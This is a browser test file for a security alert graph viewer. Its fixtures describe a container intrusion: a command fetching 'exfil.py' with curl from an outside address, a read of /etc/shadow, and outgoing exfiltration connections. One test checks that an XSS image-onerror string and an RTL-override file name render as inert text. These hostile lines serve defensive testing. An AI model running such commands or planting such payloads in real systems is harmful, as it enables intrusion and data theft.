// The built page in a real browser, in front of told graphs (viewer/test/mock.mjs).

import assert from 'node:assert/strict';
import { readFile } from 'node:fs/promises';
import { createRequire } from 'node:module';
import { describe, test } from 'node:test';
import { attack, GRAPH_ID } from '../../viewer/test/fixtures/story.mjs';
import { EMPTY_ID } from '../../viewer/test/mock.mjs';
import { card, open, panel, shoot } from './browser.mjs';
import { browser, clean, mock } from './told.mjs';

const AXE = await readFile(createRequire(import.meta.url).resolve('axe-core/axe.min.js'), 'utf8');
const HOSTILE_ID = 'f'.repeat(32);
const WIDE_ID = '0000000000000000000000000000a11e';
const LARGE_ID = '000000000000000000000000000015ff';
/** The download, second alert of the intrusion. */
const DOWNLOAD = '1795489172537404306';

async function openGraph(t, query = '', options = {}) {
  const watched = await open(t, browser, options);
  await watched.page.goto(`${mock.url}/g/${GRAPH_ID}${query}`);
  await card(watched.page, 'node').waitFor();
  return watched;
}

/** Findings of axe-core that are serious or worse (contrast is among them). */
async function barriers(page) {
  await page.evaluate(AXE);
  const { violations } = await page.evaluate(() => globalThis.axe.run(document, { resultTypes: ['violations'] }));
  return violations
    .filter((v) => ['serious', 'critical'].includes(v.impact))
    .map((v) => `${v.id}: ${v.nodes.slice(0, 3).map((n) => `${n.target} ${n.failureSummary}`).join(' | ')}`);
}

describe('list', () => {
  test('shows graphs most severe first and alerts that lead to their place in the graph', async (t) => {
    const watched = await open(t, browser);
    const { page } = watched;
    await page.goto(mock.url);
    const first = page.locator('a.row').first();
    await first.waitFor();
    assert.equal(await page.locator('a.row').count(), 4);
    const text = await first.innerText();
    for (const part of ['node', '/app/server.js', 'shop-frontend', 'demo-node', 'Critical', '19 alerts', '8 processes', 'T1059.004', 'Web server spawned a shell', '24 Nov 2026, 02:59:15 – 03:00:29 UTC']) {
      assert.ok(text.includes(part), `${part} is not in the first row:\n${text}`);
    }
    await shoot(page, 'list');
    await page.getByRole('link', { name: /Large upload by an interpreter/ }).click();
    await page.waitForURL(/\/g\/[0-9a-f]{32}\?at=1795489184453124306$/);
    await page.locator('.node.selected[data-name^="Process python3"]').waitFor();
    await page.goBack();
    await first.waitFor();
    clean(watched);
  });

  test('finds by word, and says when nothing is found', async (t) => {
    const watched = await open(t, browser);
    const { page } = watched;
    await page.goto(mock.url);
    await page.locator('a.row').nth(3).waitFor();
    await page.getByRole('searchbox', { name: 'Search graphs' }).fill('customer-db');
    await page.getByText('1 graph, most severe first').waitFor();
    assert.match(await page.locator('a.row').innerText(), /postgres/);
    await page.getByRole('searchbox').fill('nothing like this');
    await page.getByRole('heading', { name: 'Nothing found' }).waitFor();
    clean(watched);
  });

  test('is helpful when empty and when the processor is away', async (t) => {
    mock.state.none = true;
    const watched = await open(t, browser);
    const { page } = watched;
    await page.goto(mock.url);
    await page.getByRole('heading', { name: 'No graph yet' }).waitFor();
    await page.getByRole('heading', { name: 'No alerts' }).waitFor();
    mock.state.none = false;
    mock.state.down = true;
    await page.reload();
    await page.getByRole('heading', { name: 'Could not load the graphs' }).waitFor();
    await shoot(page, 'list-away');
    mock.state.down = false;
    await page.getByRole('button', { name: 'Try again' }).click();
    await page.locator('a.row').first().waitFor();
    clean(watched, /Failed to load resource/);
  });
});

describe('graph', () => {
  test('opens at the alert: its node is selected and in the middle of the picture', async (t) => {
    const watched = await openGraph(t, `?at=${DOWNLOAD}`);
    const { page } = watched;
    const curl = card(page, 'curl');
    assert.equal(await curl.locator('.head').getAttribute('aria-pressed'), 'true');
    const canvas = await page.locator('.viewport').boundingBox();
    const box = await curl.boundingBox();
    const x = (box.x + box.width / 2 - canvas.x) / canvas.width;
    const y = (box.y + box.height / 2 - canvas.y) / canvas.height;
    assert.ok(Math.abs(x - 0.5) < 0.1 && Math.abs(y - 0.5) < 0.1, `the node is at ${x.toFixed(2)}, ${y.toFixed(2)}`);
    assert.match(await page.locator('.alerts [aria-current="true"]').innerText(), /Download tool started in container/);
    assert.match(await page.getByRole('tabpanel').innerText(), /sf\.proc\.cmdline\s+curl -s http:\/\/198\.51\.100\.23\/exfil\.py/);
    await shoot(page, 'graph-alert');
    clean(watched);
  });

  test('draws the story left to right: node, sh, then curl and python3, nothing over anything', async (t) => {
    const watched = await openGraph(t);
    const { page } = watched;
    await page.getByRole('button', { name: 'Fit the whole graph' }).click();
    const x = async (label) => (await card(page, label).boundingBox()).x;
    const [node, sh, curl, python, id] = await Promise.all(['node', 'sh', 'curl', 'python3', 'id'].map(x));
    assert.ok(node < sh && sh < curl && python < id, `${node} ${sh} ${curl} ${python} ${id}`);
    assert.equal(curl, python);
    const boxes = await page.locator('.node').evaluateAll((all) => all.map((n) => n.getBoundingClientRect().toJSON()));
    for (const [i, a] of boxes.entries()) {
      for (const b of boxes.slice(i + 1)) {
        const apart = a.right <= b.left || b.right <= a.left || a.bottom <= b.top || b.bottom <= a.top;
        assert.ok(apart, `${JSON.stringify(a)} overlaps ${JSON.stringify(b)}`);
      }
    }
    const labels = await page.locator('.lines text').allTextContents();
    for (const kind of ['CLONE', 'EXEC', 'FF', 'NF', 'FE']) assert.ok(labels.some((l) => l.startsWith(kind)), `no edge says ${kind}`);
    const dashes = (flow) => page.locator(`.line${flow ? '.flow' : ':not(.flow)'} .run`).first().evaluate((e) => getComputedStyle(e).strokeDasharray);
    assert.notEqual(await dashes(true), 'none');
    assert.equal(await dashes(false), 'none');
    await shoot(page, 'graph-whole');
    clean(watched);
  });

  test('tells about python3: alerts, files with refusals, connections, identity', async (t) => {
    const watched = await openGraph(t, '?node=');
    const { page } = watched;
    await page.getByRole('button', { name: 'Fit the whole graph' }).click();
    await card(page, 'python3').click();
    await page.getByRole('button', { name: 'Centre the selected node' }).click();
    await card(page, 'python3').getByText('187 files').waitFor();
    assert.match(await card(page, 'python3').innerText(), /python3[\s\S]*12[\s\S]*\/tmp\/exfil\.py[\s\S]*node\s*·?\s*shop-frontend[\s\S]*187 files[\s\S]*22 net[\s\S]*4 children[\s\S]*T1003\.008/);
    const alerts = await panel(page, /Alerts/);
    assert.match(alerts, /Shadow file access[\s\S]*ATT&CK techniques[\s\S]*T1048\.003[\s\S]*Exfiltration Over Unencrypted Non-C2 Protocol/);
    const link = page.getByRole('link', { name: /T1048\.003/ });
    assert.equal(await link.getAttribute('href'), 'https://attack.mitre.org/techniques/T1048/003/');
    assert.equal(await link.getAttribute('rel'), 'noopener noreferrer');
    const files = await panel(page, /Files/);
    assert.match(files, /\/etc\/shadow[\s\S]*refused, EACCES/);
    assert.match(files, /\/tmp\/dump\.tgz/);
    await shoot(page, 'graph-files');
    const net = await panel(page, /Connections/);
    for (const endpoint of ['198.51.100.77:8443', '203.0.113.99:443', '10.88.0.3:5432']) assert.ok(net.includes(endpoint), net);
    assert.match(net, /198\.51\.100\.77:8443\s+outgoing tcp[\s\S]*15 flows/);
    await shoot(page, 'graph-connections');
    const process = await panel(page, /Process/);
    assert.match(process, /\/usr\/bin\/python3\.11[\s\S]*uid 1000[\s\S]*localhost\/demo\/shop-frontend:1\.4[\s\S]*10397\s+02:59:32\.585/);
    await page.getByRole('tabpanel').getByRole('button', { name: 'sh -c curl' }).click();
    await page.locator('.node.selected[data-name^="Process sh"]').waitFor();
    clean(watched);
  });

  test('walks by alerts in order of time, and the address follows', async (t) => {
    const watched = await openGraph(t);
    const { page } = watched;
    const times = await page.locator('.alerts time').allInnerTexts();
    assert.equal(times.length, 19);
    assert.deepEqual(times, times.toSorted());
    await page.locator('.alerts').getByRole('button', { name: /Large upload/ }).click();
    await page.locator('.node.selected[data-name^="Process python3"]').waitFor();
    assert.match(page.url(), /\?at=1795489184453124306&node=p:[0-9a-f]{16}$/);
    assert.match(await page.getByRole('tabpanel').innerText(), /sf\.net\.dip\s+203\.0\.113\.99/);
    await page.getByRole('button', { name: 'Copy graph id' }).click();
    assert.equal(await page.evaluate(() => navigator.clipboard.readText()), GRAPH_ID);
    clean(watched);
  });

  test('obeys the keyboard: Tab, arrows, zoom, Escape', async (t) => {
    const watched = await openGraph(t);
    const { page } = watched;
    const focused = () => page.evaluate(() => document.activeElement?.closest('.node')?.dataset.name ?? '');
    await card(page, 'sh').locator('.head').focus();
    await page.keyboard.press('ArrowLeft');
    assert.match(await focused(), /^Process node/);
    await page.keyboard.press('ArrowRight');
    assert.match(await focused(), /^4 files of node/);
    await page.keyboard.press('ArrowDown');
    await page.keyboard.press('ArrowDown');
    assert.match(await focused(), /^Process sh/);
    const outline = await page.evaluate(() => getComputedStyle(document.activeElement.closest('.node')).outlineStyle);
    assert.equal(outline, 'solid');
    const zoom = () => page.locator('.percent').innerText();
    const before = await zoom();
    await page.keyboard.press('+');
    assert.notEqual(await zoom(), before);
    await page.getByRole('complementary', { name: 'Selected node' }).waitFor();
    await page.keyboard.press('Escape');
    await page.getByRole('complementary', { name: 'Selected node' }).waitFor({ state: 'detached' });
    assert.match(await focused(), /^Process sh/);
    await page.keyboard.press('Enter');
    await page.getByRole('complementary', { name: 'Selected node' }).waitFor();
    assert.equal(await page.locator('.node .head[tabindex="0"]').count(), 1);
    clean(watched);
  });

  test('lives: a new node appears, selection, tab and zoom stay; an unchanged graph is not sent again', async (t) => {
    const watched = await openGraph(t);
    const { page } = watched;
    await page.getByRole('tab', { name: /Files/ }).click();
    await page.getByRole('button', { name: 'Zoom in' }).click();
    const place = () => card(page, 'sh').boundingBox();
    const [zoom, before] = [await page.locator('.percent').innerText(), await place()];
    const path = `/api/v1/graphs/${GRAPH_ID}?`;
    const unchanged = page.waitForResponse((r) => r.url().includes(path) && r.status() === 304);
    mock.state.push(GRAPH_ID);
    await unchanged;
    const graph = attack();
    const [node] = graph.nodes;
    const born = { ...structuredClone(node), id: 'p:00000000000000aa', label: 'nginx', args: '-g daemon', tags: [], alerts: [], first: '1795489156000000000' };
    graph.nodes.push(born);
    graph.edges.push({ from: node.id, to: born.id, kind: 'CLONE', first: born.first, last: born.first, count: 1, rbytes: 0, wbytes: 0 });
    mock.state.graphs.set(GRAPH_ID, graph);
    mock.state.push(GRAPH_ID);
    await card(page, 'nginx').waitFor({ state: 'attached' });
    assert.equal(await page.locator('.node').count(), 19);
    assert.equal(await page.getByRole('tab', { selected: true }).innerText().then((s) => s.slice(0, 5)), 'Files');
    assert.equal(await page.locator('.percent').innerText(), zoom);
    const now = await place();
    assert.ok(Math.abs(now.x - before.x) < 2 && Math.abs(now.y - before.y) < 2, 'the selected node has moved on the screen');
    clean(watched);
  });

  test('goes on showing what it has while the processor is away', async (t) => {
    const watched = await openGraph(t);
    const { page } = watched;
    mock.state.down = true;
    mock.state.drop();
    await page.getByText(/Offline since/).waitFor();
    assert.equal(await card(page, 'sh').isVisible(), true);
    mock.state.down = false;
    await page.getByRole('button', { name: 'Try again' }).click();
    await page.getByText('Live', { exact: true }).waitFor();
    clean(watched, /Failed to load resource/);
  });
});

describe('states', () => {
  test('unknown id, bad id, empty graph, no such page', async (t) => {
    const watched = await open(t, browser);
    const { page } = watched;
    await page.goto(`${mock.url}/g/${'1'.repeat(32)}`);
    await page.getByRole('heading', { name: 'There is no such graph' }).waitFor();
    await shoot(page, 'graph-unknown');
    await page.goto(`${mock.url}/g/nonsense`);
    await page.getByRole('heading', { name: 'This is not a graph id' }).waitFor();
    await page.goto(`${mock.url}/g/${EMPTY_ID}`);
    await page.getByRole('heading', { name: 'Nothing happened here yet' }).waitFor();
    await page.goto(`${mock.url}/g/a/b`);
    await page.getByRole('heading', { name: 'No such page' }).waitFor();
    await page.getByRole('link', { name: 'All graphs' }).click();
    await page.locator('a.row').first().waitFor();
    clean(watched, /Failed to load resource/);
  });

  test('loading, then not reachable, then there', async (t) => {
    mock.state.hold = true;
    const watched = await open(t, browser);
    const { page } = watched;
    await page.goto(`${mock.url}/g/${GRAPH_ID}`);
    await page.locator('main[aria-busy="true"]').waitFor();
    mock.state.hold = false;
    mock.state.down = true;
    await page.reload();
    await page.getByRole('heading', { name: 'Could not load the graph' }).waitFor();
    mock.state.down = false;
    await card(page, 'node').waitFor();
    clean(watched, /Failed to load resource/);
  });

  test('a truncated graph with lost records says so, and leads to its parent', async (t) => {
    const watched = await open(t, browser);
    const { page } = watched;
    await page.goto(`${mock.url}/g/${WIDE_ID}`);
    await page.getByText('Not the whole graph.').waitFor();
    await page.getByText(/88 records and 1,204 events were lost: buffer full/).waitFor();
    await page.getByText(/Not everything can be seen here\. The collector on this host says: Falco does not deliver read, write; set/).waitFor();
    await shoot(page, 'losses');
    await page.getByRole('link', { name: '5ad0c3e17f24…' }).click();
    await card(page, 'python3').waitFor({ state: 'attached' });
    clean(watched);
  });

  test('1,500 processes are drawn at once, from near and from afar', async (t) => {
    const watched = await open(t, browser);
    const { page } = watched;
    await page.goto(mock.url);
    await page.locator('a.row').first().waitFor();
    await page.goto(`${mock.url}/g/${LARGE_ID}`);
    await page.locator('.node').first().waitFor();
    assert.match(await page.locator('.viewport').getAttribute('aria-label'), /1500 nodes/);
    const drawn = await page.locator('.node').count();
    assert.ok(drawn > 3 && drawn < 150, `${drawn} nodes in the document`);
    await page.getByRole('button', { name: /hidden, show all/ }).click();
    await page.getByRole('button', { name: 'Fit the whole graph' }).click();
    await page.waitForFunction(() => document.querySelectorAll('.node').length === 1500);
    clean(watched);
  });
});

describe('hostile strings', () => {
  test('are text everywhere, visible, and never run', async (t) => {
    const watched = await open(t, browser);
    const { page } = watched;
    await page.goto(`${mock.url}/g/${HOSTILE_ID}`);
    await card(page, '<img src=x').waitFor();
    await shoot(page, 'hostile');
    const body = async () => page.locator('body').innerText();
    assert.ok((await body()).includes('<img src=x onerror=window.hacked=1>'));
    assert.ok((await body()).includes('gpj.exe⟨U+202E⟩gnp.sh'));
    assert.doesNotMatch(await page.locator('body').evaluate((b) => b.textContent), /[\u202a-\u202e\u2066-\u2069\u0000\u001b\u0007]/);
    await page.getByRole('button', { name: 'Show all (65.6 kB)' }).first().click();
    await page.getByRole('button', { name: 'Show less' }).first().waitFor();
    for (const label of ['curl', 'python3', '<img']) {
      await page.getByRole('button', { name: 'Fit the whole graph' }).click();
      await card(page, label).click();
      for (const tab of [/Alerts/, /Files/, /Connections/, /Process/]) await panel(page, tab);
    }
    const strange = await page.evaluate(() => ({
      hacked: 'hacked' in globalThis,
      elements: document.querySelectorAll('iframe, script:not([src^="/assets/"]), img:not([src^="/assets/"]), b, i').length,
      links: [...document.links].map((a) => a.href).filter((h) => !/^(http:\/\/127\.0\.0\.1:\d+\/|https:\/\/attack\.mitre\.org\/techniques\/T\d{4}\/(\d{3}\/)?$)/.test(h)),
      wide: document.documentElement.scrollWidth > innerWidth,
    }));
    assert.deepEqual(strange, { hacked: false, elements: 0, links: [], wide: false });
    clean(watched);
  });
});

describe('accessible', () => {
  for (const dark of [false, true]) {
    for (const [width, height] of [[1440, 900], [1000, 700]]) {
      test(`axe-core finds nothing serious, ${dark ? 'dark' : 'light'}, ${width} wide`, async (t) => {
        const watched = await open(t, browser, { width, height, dark });
        const { page } = watched;
        await page.goto(mock.url);
        await page.locator('a.row').first().waitFor();
        assert.deepEqual(await barriers(page), []);
        await page.goto(`${mock.url}/g/${GRAPH_ID}?at=${DOWNLOAD}`);
        await card(page, 'curl').waitFor();
        assert.deepEqual(await barriers(page), []);
        for (const tab of [/Files/, /Connections/, /Process/]) {
          await panel(page, tab);
          assert.deepEqual(await barriers(page), []);
          assert.equal(await page.evaluate(() => document.querySelector('.page').scrollWidth - innerWidth), 0);
        }
        await shoot(page, `graph-${width}-${dark ? 'dark' : 'light'}`);
      });
    }
  }
});
